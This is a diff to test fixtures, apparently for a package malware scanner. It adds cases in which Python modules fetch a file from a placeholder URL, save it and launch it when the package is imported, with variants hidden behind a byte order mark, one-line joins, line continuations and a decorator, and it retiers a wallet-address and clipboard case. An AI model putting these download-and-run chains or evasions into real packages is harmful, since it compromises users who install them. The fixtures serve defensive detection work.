@@ -20,7 +20,39 @@ const put = lines(
 );
 const start = lines('import subprocess', 'def launch(p):', '    return subprocess.Popen([str(p)])');
 
+const joined = [
+  'from .fetch import get',
+  'from .store import put',
+  'from .proc import launch',
+  'launch(put("tool", get("https://a.invalid/t")))',
+];
+
+/** The same three modules, joined by an `__init__.py` that is written otherwise. */
+function joinedBy(name: string, init: string, more: Readonly<Record<string, string>> = {}): Shape {
+  return {
+    name,
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': init,
+      'demo/fetch.py': fetch,
+      'demo/store.py': put,
+      'demo/proc.py': start,
+      ...more,
+    },
+  };
+}
+
 export const betweenFiles: readonly Shape[] = [
+  joinedBy('joined behind a byte order mark', `\ufeff${lines(...joined)}`),
+  joinedBy('joined on one line', lines(`x = 1; ${joined.join('; ')}`)),
+  joinedBy('joined behind a colon', lines('if 1: ' + joined.join('; '))),
+  joinedBy(
+    'joined over lines that go on',
+    lines('from .fetch \\', ' import get', 'from  .store\timport (', '  put,', ')', ...joined.slice(2)),
+  ),
+  joinedBy('joined by a decorator', lines('from .run import boot', '@boot', 'class A:', '    pass'), {
+    'demo/run.py': lines(...joined.slice(0, 3), 'def boot(c):', `    ${joined[3]}`, '    return c'),
+  }),
   {
     name: 'fetched, kept and started by three modules, joined when the package is imported',
     tier: 'deny',
@@ -134,7 +166,7 @@ export const betweenFiles: readonly Shape[] = [
   },
   {
     name: 'addresses of wallets are looked for by one module, the clipboard is read by another',
-    tier: 'deny',
+    tier: 'review',
     files: {
       'demo/__init__.py': lines('from . import loop', 'loop.start()'),
       'demo/rules.py': lines(
@@ -206,6 +238,15 @@ export const betweenFiles: readonly Shape[] = [
         'def apply():',
         '    requests.Session.send = new',
       ),
+    },
+  },
+  {
+    name: 'an address of a wallet for gifts, and a clipboard that is read',
+    tier: 'pass',
+    files: {
+      'demo/__init__.py': '',
+      'demo/about.py': lines('GIFTS = "0x000000000000000000000000000000000000dEaD"'),
+      'demo/paste.py': lines('import pyperclip', 'def paste():', '    return pyperclip.paste()'),
     },
   },
 ];
